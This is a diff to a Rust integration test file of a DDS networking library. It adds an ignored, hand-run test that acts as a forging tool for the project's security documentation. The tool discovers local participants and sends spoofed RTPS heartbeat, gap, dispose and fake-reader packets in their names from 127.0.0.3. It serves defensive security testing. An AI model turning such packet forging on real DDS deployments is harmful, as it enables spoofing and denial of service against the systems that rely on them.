@@ -281,3 +281,80 @@ fn an_attacker_moving_its_own_participant_is_rebound() {
         "the dispose from the new address"
     );
 }
+
+/// The forger as a tool, for the figures in `docs/security.md` §6 (not a test: ignored, and
+/// run by hand inside `netns-run` against running `shape_main`s in domain 0):
+/// `SIFTDDS_FORGE=heartbeat|gap|dispose|stuck-reader cargo test --test interop
+/// hostile::forge_against_running_shape_mains -- --ignored`. It discovers the participants
+/// with a participant of its own (no endpoints), then sends from 127.0.0.3, in every
+/// discovered participant's name to every other, what `SIFTDDS_FORGE` names, to the
+/// metatraffic unicast ports of participant ids 0-3 (shape_main's first writer is entity
+/// 0x102, its first reader 0x107).
+#[test]
+#[ignore]
+fn forge_against_running_shape_mains() {
+    if !may_open_sockets("forge_against_running_shape_mains") {
+        return;
+    }
+    use siftdds::core::Event;
+    use siftdds::wire::EntityId;
+    let what = std::env::var("SIFTDDS_FORGE").unwrap_or_default();
+    let me = DomainParticipant::builder(0).build().unwrap();
+    let mut prefixes = Vec::new();
+    let until = Instant::now() + Duration::from_secs(3);
+    while Instant::now() < until {
+        if let Some(Event::ParticipantDiscovered(p)) =
+            me.wait_event(Duration::from_millis(100)).unwrap()
+        {
+            prefixes.push(p);
+        }
+    }
+    let evil = attacker(3);
+    let ports: Vec<SocketAddrV4> = (0..4)
+        .map(|id| {
+            SocketAddrV4::new(
+                Ipv4Addr::LOCALHOST,
+                metatraffic_unicast_port(0, id).unwrap(),
+            )
+        })
+        .collect();
+    let send = |d: &[u8]| {
+        for p in &ports {
+            let _ = evil.send_to(d, p);
+        }
+    };
+    let writer = |p| Guid::new(p, EntityId([0, 0, 1, 0x02]));
+    let reader = |p| Guid::new(p, EntityId([0, 0, 1, 0x07]));
+    let at = Locator::udpv4([127, 0, 0, 3], 7999);
+    for &p in &prefixes {
+        for &q in prefixes.iter().filter(|q| **q != p) {
+            match what.as_str() {
+                "heartbeat" => send(&forge::heartbeat(
+                    writer(p),
+                    reader(q),
+                    10_000_000,
+                    10_000_000,
+                )),
+                "gap" => send(&forge::gap(writer(p), reader(q), 1, 10_000_000)),
+                _ => {}
+            }
+        }
+        if what == "dispose" {
+            send(&forge::spdp(p, 0, 1 << 20, 20, at, true));
+        }
+    }
+    if what == "stuck-reader" {
+        let fake = spoof::prefix(15);
+        let group = SocketAddrV4::new(
+            Ipv4Addr::new(239, 255, 0, 1),
+            spdp_multicast_port(0).unwrap(),
+        );
+        evil.send_to(&forge::spdp(fake, 0, 1, 100_000, at, false), group)
+            .unwrap();
+        send(&spoof::sedp_reader(fake, 1, 1, at, true));
+    }
+    eprintln!(
+        "forged {what:?} among {} participants: {prefixes:?}",
+        prefixes.len()
+    );
+}
